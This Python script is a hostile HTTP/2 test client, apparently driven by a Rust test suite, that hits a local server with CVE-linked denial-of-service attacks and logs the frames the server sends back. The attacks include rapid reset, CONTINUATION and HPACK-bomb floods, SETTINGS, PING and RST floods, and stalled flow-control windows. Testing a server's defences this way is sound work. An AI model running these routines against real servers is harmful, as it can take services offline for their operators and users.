"""A scripted hostile HTTP/2 client for tests/h2_hostile.rs.

Usage: attack.py ATTACK PORT

Frames are built with hyperframe and field blocks with hpack (both come
with the `h2` package), written on a raw socket so that no client-side
rule stops the attack. A reader thread records every frame the server
sends. The last lines printed summarise what happened, one fact a line:

    goaway LAST_STREAM_ID ERROR_CODE
    rst STREAM_ID ERROR_CODE        (at most the first 5, then rst_count N)
    headers STREAM_ID / data STREAM_ID LEN
    sent BYTES / received BYTES
    closed | open
"""

import socket
import ssl
import struct
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
PROTOCOL_ERROR = 0x1


class Peer:
    def __init__(self, port, read=True, cafile=None):
        self.sock = socket.create_connection(("127.0.0.1", port))
        if cafile:
            context = ssl.create_default_context(cafile=cafile)
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
            print("alpn %s" % self.sock.selected_alpn_protocol())
        self.sent = 0
        self.received = 0
        self.closed = False
        self.facts = []
        self.rst_count = 0
        self.head = b""
        self.lock = threading.Lock()
        self.reading = threading.Event()
        # An SSL socket must not be used by two threads at once (a read may
        # process a post-handshake message while a write runs), so with TLS
        # the reader starts only once the sending is over (`wait_closed`).
        self.tls = cafile is not None
        if read and not self.tls:
            self.reading.set()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        buf = b""
        while True:
            self.reading.wait()
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                # A read that timed out says nothing of the connection.
                continue
            except OSError:
                chunk = b""
            if not chunk:
                with self.lock:
                    self.closed = True
                return
            with self.lock:
                self.received += len(chunk)
                if len(self.head) < 64:
                    self.head += chunk[:64]
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[0:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = buf[9 : 9 + length]
                buf = buf[9 + length :]
                self._frame(kind, flags, stream, payload)

    def _frame(self, kind, flags, stream, payload):
        with self.lock:
            if kind == 0x7:
                last, code = struct.unpack(">II", payload[:8])
                self.facts.append("goaway %d %d" % (last & 0x7FFFFFFF, code))
            elif kind == 0x3:
                self.rst_count += 1
                if self.rst_count <= 5:
                    (code,) = struct.unpack(">I", payload[:4])
                    self.facts.append("rst %d %d" % (stream, code))
            elif kind == 0x1 and len(self.facts) < 200:
                self.facts.append("headers %d" % stream)
            elif kind == 0x0 and len(self.facts) < 200:
                self.facts.append("data %d %d" % (stream, len(payload)))

    def send(self, data, deadline=5.0):
        """Writes `data` unless the server stops reading or closes; returns
        False when the write could not complete within `deadline` seconds."""
        # Changing the timeout switches the descriptor between blocking and
        # non-blocking under a read already in progress in the reader
        # thread, which then fails ("timed out") when a TLS record arrives
        # in pieces or holds no application data; with TLS the reader is
        # not running yet (see __init__).
        self.sock.settimeout(deadline)
        try:
            self.sock.sendall(data)
        except (socket.timeout, OSError):
            return False
        self.sent += len(data)
        return True

    def frames(self, *frames):
        return self.send(b"".join(f.serialize() for f in frames))

    def wait(self, what, timeout):
        """Waits until `what()` holds or `timeout` seconds pass."""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            with self.lock:
                if what():
                    return True
            time.sleep(0.01)
        return False

    def wait_closed(self, timeout=5.0):
        self.reading.set()
        return self.wait(lambda: self.closed, timeout)

    def report(self):
        with self.lock:
            for fact in self.facts:
                print(fact)
            print("rst_count %d" % self.rst_count)
            if self.head.startswith(b"HTTP/"):
                print("http1 %s" % self.head.split(b"\r\n")[0].decode("latin-1"))
            print("sent %d" % self.sent)
            print("received %d" % self.received)
            print("closed" if self.closed else "open")
        sys.stdout.flush()


def request(encoder, path, method="GET"):
    return encoder.encode(
        [
            (":method", method),
            (":scheme", "http"),
            (":authority", "localhost"),
            (":path", path),
        ]
    )


def start(port, read=True, settings=None):
    peer = Peer(port, read)
    # Acknowledge the server's SETTINGS (sent first on every connection)
    # up front, so that no attack is mistaken for a SETTINGS timeout.
    peer.send(
        PREFACE
        + SettingsFrame(0, settings or {}).serialize()
        + SettingsFrame(0, flags=["ACK"]).serialize()
    )
    return peer, Encoder()


def rapid_reset(port):
    """CVE-2023-44487: open a stream and cancel it at once, many times."""
    peer, enc = start(port)
    block = request(enc, "/")
    batch = []
    for i in range(5000):
        sid = 2 * i + 1
        batch.append(HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]))
        batch.append(RstStreamFrame(sid, error_code=CANCEL))
        if len(batch) >= 200:
            if not peer.frames(*batch):
                break
            batch = []
    peer.wait_closed()
    peer.report()


def continuation_flood(port):
    """CVE-2024-27316 family: HEADERS without END_HEADERS, then endless
    CONTINUATION frames."""
    peer, enc = start(port)
    peer.frames(HeadersFrame(1, request(enc, "/")))
    filler = Encoder().encode([("x-filler", "a" * 100)])
    for _ in range(10000):
        if not peer.frames(ContinuationFrame(1, filler)):
            break
        if peer.closed:
            break
    peer.wait_closed()
    peer.report()


def hpack_bomb(port):
    """A 4000-octet field inserted into the dynamic table once, then
    referenced by a one-octet index thousands of times (CVE-2016-6581
    style): a few KiB on the wire, megabytes decoded."""
    peer, enc = start(port)
    insert = request(enc, "/") + enc.encode([("x-bomb", "b" * 4000)])
    peer.frames(HeadersFrame(1, insert, flags=["END_HEADERS", "END_STREAM"]))
    peer.wait(lambda: "headers 1" in peer.facts, 5.0)
    # The newest dynamic entry is index 62 (RFC 7541 §2.3.3): 0xBE.
    refs = request(enc, "/") + b"\xbe" * 16000
    frames = [HeadersFrame(3, refs[:16384], flags=["END_STREAM"])]
    frames.append(ContinuationFrame(3, refs[16384:], flags=["END_HEADERS"]))
    peer.frames(*frames)
    peer.wait_closed()
    peer.report()


def oversized_header_list(port):
    """A single request whose field section (20 KiB) is above the
    advertised SETTINGS_MAX_HEADER_LIST_SIZE (16 KiB) but below the hard
    limit, then a normal request on the same connection."""
    peer, enc = start(port)
    fields = [("x-big-%d" % i, "v" * 1000) for i in range(20)]
    block = request(enc, "/") + enc.encode(fields)
    peer.frames(
        HeadersFrame(1, block[:16000], flags=["END_STREAM"]),
        ContinuationFrame(1, block[16000:], flags=["END_HEADERS"]),
    )
    peer.frames(HeadersFrame(3, request(enc, "/"), flags=["END_HEADERS", "END_STREAM"]))
    peer.wait(lambda: "headers 3" in peer.facts, 5.0)
    time.sleep(0.1)
    peer.sock.close()
    peer.closed = True
    peer.report()


def settings_flood(port):
    """CVE-2019-9515: SETTINGS frames without reading the ACKs."""
    peer, enc = start(port, read=False)
    frame = SettingsFrame(0, {SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    stalled = False
    for _ in range(100):
        if not peer.send(frame * 2000, deadline=2.0):
            stalled = True
            break
    print("stalled" if stalled else "not_stalled")
    peer.wait_closed()
    peer.report()


def ping_flood(port):
    """CVE-2019-9512: PING frames without reading the ACKs."""
    peer, enc = start(port, read=False)
    frame = PingFrame(0, b"12345678").serialize()
    stalled = False
    for _ in range(100):
        if not peer.send(frame * 2000, deadline=2.0):
            stalled = True
            break
    print("stalled" if stalled else "not_stalled")
    peer.wait_closed()
    peer.report()


def empty_data_flood(port):
    """CVE-2019-9518: DATA frames without payload and without END_STREAM."""
    peer, enc = start(port)
    peer.frames(HeadersFrame(1, request(enc, "/echo", "POST"), flags=["END_HEADERS"]))
    empty = DataFrame(1, b"").serialize()
    for _ in range(50):
        if not peer.send(empty * 100):
            break
    peer.wait_closed()
    peer.report()


def window_update_flood(port):
    """A storm of tiny WINDOW_UPDATE frames (RFC 9113 §10.5)."""
    peer, enc = start(port)
    frame = WindowUpdateFrame(0, window_increment=1).serialize()
    for _ in range(100):
        if not peer.send(frame * 1000):
            break
    peer.wait_closed()
    peer.report()


def reset_flood(port):
    """CVE-2019-9514: requests that each force us to send RST_STREAM
    (here: an uppercase field name, §8.2.1), without reading them."""
    peer, enc = start(port, read=False)
    bad = request(enc, "/") + b"\x00\x05X-BAD\x01v"
    stalled = False
    for i in range(4000):
        sid = 2 * i + 1
        if not peer.frames(HeadersFrame(sid, bad, flags=["END_HEADERS", "END_STREAM"])):
            stalled = True
            break
    print("stalled" if stalled else "not_stalled")
    peer.wait_closed()
    peer.report()


def rst_stream_flood(port):
    """RST_STREAM frames for streams that already ended, as fast as possible."""
    peer, enc = start(port)
    peer.frames(HeadersFrame(1, request(enc, "/"), flags=["END_HEADERS", "END_STREAM"]))
    peer.wait(lambda: any(f.startswith("data 1") for f in peer.facts), 5.0)
    frame = RstStreamFrame(1, error_code=CANCEL).serialize()
    for _ in range(100):
        if not peer.send(frame * 1000):
            break
    peer.wait_closed()
    peer.report()


def zero_window(port):
    """CVE-2019-9517: a peer that never opens its flow-control window while
    we have a large response to send."""
    peer, enc = start(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    peer.frames(HeadersFrame(1, request(enc, "/large"), flags=["END_HEADERS", "END_STREAM"]))
    peer.wait_closed(float(sys.argv[3]) if len(sys.argv) > 3 else 5.0)
    peer.report()


def preface_timeout(port):
    """Connect and send nothing."""
    peer = Peer(port)
    began = time.monotonic()
    peer.wait_closed(15.0)
    print("elapsed_ms %d" % ((time.monotonic() - began) * 1000))
    peer.report()


def partial_preface(port):
    """Send the first half of the preface, then nothing."""
    peer = Peer(port)
    peer.send(PREFACE[:12])
    began = time.monotonic()
    peer.wait_closed(15.0)
    print("elapsed_ms %d" % ((time.monotonic() - began) * 1000))
    peer.report()


def invalid_preface(port):
    """A preface whose last octets are wrong."""
    peer = Peer(port)
    peer.send(PREFACE[:18] + b"XX\r\n\r\n" + SettingsFrame(0).serialize())
    peer.wait_closed()
    peer.report()


def invalid_preface_tls(port):
    """The same over TLS with ALPN h2, where the bytes go straight to the
    HTTP/2 connection (CA file in argv[3])."""
    peer = Peer(port, cafile=sys.argv[3])
    peer.send(PREFACE[:18] + b"XX\r\n\r\n" + SettingsFrame(0).serialize())
    peer.wait_closed()
    peer.report()


def priority_flood(port):
    """CVE-2019-9513 (resource loop): PRIORITY frames reshuffling the
    dependency tree of idle streams, as fast as possible."""
    peer, enc = start(port)
    batch = b"".join(
        PriorityFrame(2 * i + 1, depends_on=2 * i + 3, stream_weight=200).serialize()
        for i in range(1000)
    )
    for _ in range(30):
        if not peer.send(batch):
            break
    peer.wait_closed()
    peer.report()


def empty_fields(port):
    """CVE-2019-9516 (0-length headers leak): requests whose field block
    inserts fields with an empty name and value into the dynamic table,
    100 times, then a valid request."""
    peer, _ = start(port)
    # A literal with incremental indexing and a new name (RFC 7541 §6.2.1),
    # both strings empty: 0x40 0x00 0x00, repeated. Every block comes from a
    # fresh encoder (literals only), as the encoder does not know of these.
    block = request(Encoder(), "/") + b"\x40\x00\x00" * 50
    for i in range(100):
        peer.frames(HeadersFrame(2 * i + 1, block, flags=["END_HEADERS", "END_STREAM"]))
    valid = request(Encoder(), "/")
    peer.frames(HeadersFrame(201, valid, flags=["END_HEADERS", "END_STREAM"]))
    peer.wait(lambda: "headers 201" in peer.facts, 5.0)
    time.sleep(0.1)
    peer.sock.close()
    peer.closed = True
    peer.report()


def stop_reading(port):
    """CVE-2019-9517: ask for large responses and never read them."""
    peer, enc = start(
        port, read=False, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0x7FFFFFFF}
    )
    peer.frames(WindowUpdateFrame(0, window_increment=0x7FFFFFFF - 65535))
    block = request(enc, "/large")
    for i in range(50):
        peer.frames(HeadersFrame(2 * i + 1, block, flags=["END_HEADERS", "END_STREAM"]))
    # Tell the test we are stalled, then wait until it lets us go (stdin).
    print("requested")
    sys.stdout.flush()
    sys.stdin.readline()
    peer.sock.close()
    peer.closed = True
    peer.report()


if __name__ == "__main__":
    globals()[sys.argv[1]](int(sys.argv[2]))
